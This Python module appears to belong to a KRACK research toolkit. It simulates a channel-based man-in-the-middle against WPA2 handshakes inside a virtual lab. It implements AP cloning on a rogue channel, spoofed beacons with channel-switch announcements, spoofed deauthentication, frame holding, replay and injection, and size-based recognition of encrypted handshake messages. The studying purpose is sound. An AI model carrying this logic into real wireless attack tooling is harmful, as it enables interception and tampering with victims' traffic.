"""The channel-based man-in-the-middle of krackattacks-poc-zerokey (research 1.10), as a policy over
the frames it intercepts.

The attacker clones the AP (same BSSID) on a rogue channel (1 if the real channel is 6 or above, else
11), lures the victim there with a pair of spoofed beacons carrying a Channel Switch Announcement
(count 2, then 1: some firmware needs a count of 2 or more first), and relays between the channels.
Every frame the victim sends on the rogue channel, and every frame the AP sends to the victim (or to
everyone) on the real channel, goes through :attr:`ChannelMitm.policy`, which forwards it, blocks it or
holds it for later; held and recorded frames can be released or replayed at any time.

What the attacker knows about a frame is what it can read: management subtypes, plaintext EAPOL-Key
messages, and for encrypted frames only their length (an encrypted EAPOL-Key message has a length
the suites determine, see :func:`eapol_lengths`).
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from enum import Enum

from krackwatch.crypto import Cipher
from krackwatch.lab.frames import beacon, mgmt_frame
from krackwatch.lab.world import World
from krackwatch.wire.dot11 import MgmtSubtype, ReasonCode
from krackwatch.wire.eapol import HandshakeMessage, classify, decode_eapol_key
from krackwatch.wire.elements import CSA, Element, ElementID, decode_elements
from krackwatch.wire.errors import DecodeError

__all__ = ["Action", "ChannelMitm", "Direction", "Intercept", "eapol_lengths", "rogue_channel"]

_EAPOL_PREFIX = b"\xaa\xaa\x03\x00\x00\x00\x88\x8e"
_MGMT_NAMES = {
    MgmtSubtype.AUTH: "auth", MgmtSubtype.ASSOC_REQ: "assoc-req", MgmtSubtype.ASSOC_RESP: "assoc-resp",
    MgmtSubtype.REASSOC_REQ: "reassoc-req", MgmtSubtype.REASSOC_RESP: "reassoc-resp",
    MgmtSubtype.DEAUTH: "deauth", MgmtSubtype.DISASSOC: "disassoc", MgmtSubtype.ACTION: "action",
    MgmtSubtype.PROBE_REQ: "probe-req", MgmtSubtype.PROBE_RESP: "probe-resp",
}
_MSG_NAMES = {
    HandshakeMessage.M1: "m1", HandshakeMessage.M2: "m2", HandshakeMessage.M3: "m3", HandshakeMessage.M4: "m4",
    HandshakeMessage.GROUP_M1: "group-m1", HandshakeMessage.GROUP_M2: "group-m2",
}


def rogue_channel(real: int) -> int:
    """The channel krack-all-zero-tk.py clones the AP on."""
    return 1 if real >= 6 else 11


class Direction(Enum):
    TO_VICTIM = "to-victim"
    TO_AP = "to-ap"


class Action(Enum):
    FORWARD = "forward"
    BLOCK = "block"
    HOLD = "hold"


@dataclass(frozen=True, slots=True)
class Intercept:
    """One frame the attacker caught: when, which way, and what it can tell about it.

    ``kind`` is a management subtype name, ``eapol-m1`` .. ``eapol-group-m2`` for plaintext EAPOL-Key
    messages, ``enc-eapol`` for an encrypted frame whose length is that of an EAPOL-Key message
    (``enc_kind`` then names which), ``data`` / ``group-data`` / ``group-mgmt`` otherwise.
    ``replay_counter`` is set for plaintext EAPOL-Key frames.
    """

    time: float
    frame: bytes
    direction: Direction
    kind: str
    enc_kind: str | None = None
    replay_counter: int | None = None

    @property
    def protected(self) -> bool:
        return bool(self.frame[1] & 0x40)

    @property
    def group(self) -> bool:
        return bool(self.frame[4] & 1)


def eapol_lengths(pairwise: Cipher, group: Cipher, ap_rsne_len: int, sta_rsne_len: int, pmf: bool) -> dict[int, str]:
    """MSDU length -> EAPOL-Key message, for recognising encrypted handshake frames by their size.

    The attacker knows the suites and both RSNEs from the beacon and the association request: key
    data lengths follow (AES key wrap adds 8 octets to plaintext padded to a multiple of 8, RC4 none).
    """
    base = 8 + 4 + 95  # LLC/SNAP, EAPOL header, EAPOL-Key body up to Key Data with a 16-octet MIC
    tkip = pairwise.canonical is Cipher.TKIP

    def wrapped(n: int) -> int:
        if tkip:
            return n
        padded = n if n >= 16 and n % 8 == 0 else max(16, (n + 1 + 7) // 8 * 8)
        return padded + 8

    kdes = 8 + group.tk_len + (8 + 6 + 16 if pmf else 0)
    return {
        base: "m4/group-m2/m1",
        base + sta_rsne_len: "m2",
        base + wrapped(ap_rsne_len + kdes): "m3",
        base + wrapped(kdes): "group-m1",
    }


class ChannelMitm:
    """The attacker's two radios and relay (see the module docstring)."""

    def __init__(self, world: World, *, ap: bytes, victim: bytes, real_channel: int,
                 rogue: int | None = None) -> None:
        self.world = world
        self.sched = world.loop
        self.ap = ap
        self.victim = victim
        self.real_channel = real_channel
        self.rogue_channel = rogue if rogue is not None else rogue_channel(real_channel)
        self.real = world.air.port("attacker-real", real_channel, self._on_real)
        self.rogue = world.air.port("attacker-rogue", self.rogue_channel, self._on_rogue)
        self.policy: Callable[[Intercept], Action] = lambda i: Action.FORWARD
        self.observers: list[Callable[[Intercept], None]] = []
        self.held: list[Intercept] = []
        self.seen: list[Intercept] = []
        self.delivered: set[int] = set()  # id() of intercepts forwarded (at once or later)
        self.security: tuple[Element, ...] = ()
        self.active = False  # relaying between channels
        self.lengths: dict[int, str] = {}
        self._seq = 0x800
        self._cloning = False

    # ------------------------------------------------------------------ attacker actions
    def _next_seq(self) -> int:
        self._seq = (self._seq + 1) & 0xFFF
        return self._seq

    def start(self) -> None:
        """Start cloning the AP on the rogue channel and relaying."""
        self.active = True
        if not self._cloning:
            self._cloning = True
            self._clone_beacon()

    def _clone_beacon(self) -> None:
        if self.security:
            tsf = int(self.sched.now * 1e6)
            self.rogue.send(beacon(self.ap, self.world.net.ssid, self.rogue_channel, tsf, self._next_seq(),
                                   self.security))
        self.sched.at(self.sched.now + 0.1024, self._clone_beacon)

    def send_csa(self) -> None:
        """Two spoofed beacons on the real channel announcing a switch to the rogue channel."""
        def one(count: int) -> None:
            tsf = int(self.sched.now * 1e6)
            frame = beacon(self.ap, self.world.net.ssid, self.real_channel, tsf, self._next_seq(), self.security,
                           csa=CSA(1, self.rogue_channel, count))
            self.real.send(frame, f"attacker: spoofed beacon with CSA to channel {self.rogue_channel} (count {count})")

        one(2)
        self.sched.at(self.sched.now + 0.1024, lambda: one(1))

    def deauth_victim(self) -> None:
        """A spoofed Deauthentication from the AP on the rogue channel: the victim reconnects there."""
        body = int(ReasonCode.PREV_AUTH_NOT_VALID).to_bytes(2, "little")
        self.rogue.send(mgmt_frame(MgmtSubtype.DEAUTH, self.victim, self.ap, self.ap, self._next_seq(), body),
                        "attacker: spoofed deauthentication (victim reconnects through the MitM)")

    def forward(self, i: Intercept, comment: str | None = None) -> None:
        port = self.rogue if i.direction is Direction.TO_VICTIM else self.real
        self.delivered.add(id(i))
        port.send(i.frame, comment)

    def release(self, i: Intercept, comment: str | None = None) -> None:
        """Forward a held frame now."""
        if i in self.held:
            self.held.remove(i)
        self.forward(i, comment or f"attacker: releases held {i.enc_kind or i.kind}")

    def inject(self, frame: bytes, direction: Direction, comment: str | None = None) -> None:
        """Send a frame (a replay, a forgery, a forged EAPOL message) towards the victim or the AP."""
        port = self.rogue if direction is Direction.TO_VICTIM else self.real
        port.send(frame, comment)

    # ------------------------------------------------------------------ interception
    def _classify(self, frame: bytes, direction: Direction) -> Intercept:
        now = self.sched.now
        fc0, fc1 = frame[0], frame[1]
        ftype = fc0 & 0x0C
        if ftype == 0x00:
            if frame[4] & 1:
                return Intercept(now, frame, direction, "group-mgmt")
            return Intercept(now, frame, direction, _MGMT_NAMES.get(fc0 >> 4, "mgmt"))
        if frame[4] & 1:
            return Intercept(now, frame, direction, "group-data")
        body = frame[24:]
        if not fc1 & 0x40:
            if body.startswith(_EAPOL_PREFIX):
                try:
                    key = decode_eapol_key(body[8:])
                except DecodeError:
                    return Intercept(now, frame, direction, "eapol")
                name = _MSG_NAMES.get(classify(key), "other")
                return Intercept(now, frame, direction, f"eapol-{name}", replay_counter=key.replay_counter)
            return Intercept(now, frame, direction, "data")
        c = self.world.net.pairwise.canonical
        trailer = 12 if c is Cipher.TKIP else (8 if c is Cipher.CCMP128 else 16)
        msdu_len = len(body) - 8 - trailer
        enc = self.lengths.get(msdu_len)
        if enc is not None:
            return Intercept(now, frame, direction, "enc-eapol", enc_kind=enc)
        return Intercept(now, frame, direction, "data")

    def _handle(self, i: Intercept) -> None:
        self.seen.append(i)
        for obs in self.observers:
            obs(i)
        if not self.active:
            return
        action = self.policy(i)
        if action is Action.FORWARD:
            self.forward(i)
        elif action is Action.HOLD:
            self.held.append(i)

    def _on_real(self, frame: bytes, channel: int) -> None:
        if len(frame) < 24 or frame[10:16] != self.ap:
            return
        fc0 = frame[0]
        if fc0 == 0x80:  # a beacon: learn the AP's security elements for the clone
            if not self.security:
                self._learn(frame)
            return
        a1 = frame[4:10]
        if a1 == self.victim or (a1[0] & 1 and fc0 & 0x0C in (0x00, 0x08)):
            self._handle(self._classify(frame, Direction.TO_VICTIM))

    def _on_rogue(self, frame: bytes, channel: int) -> None:
        if len(frame) < 24 or frame[10:16] != self.victim or frame[4:10] != self.ap:
            return
        self._handle(self._classify(frame, Direction.TO_AP))

    def _learn(self, frame: bytes) -> None:
        try:
            elements = decode_elements(frame[24:], 12)
        except DecodeError:
            return
        self.security = tuple(e for e in elements if e.id in (ElementID.RSN, ElementID.MOBILITY_DOMAIN))
        rsne = next((e for e in elements if e.id == ElementID.RSN), None)
        if rsne is not None:
            net = self.world.net
            n = len(rsne.data) + 2
            self.lengths = eapol_lengths(net.pairwise, net.group, n, n, net.pmf)

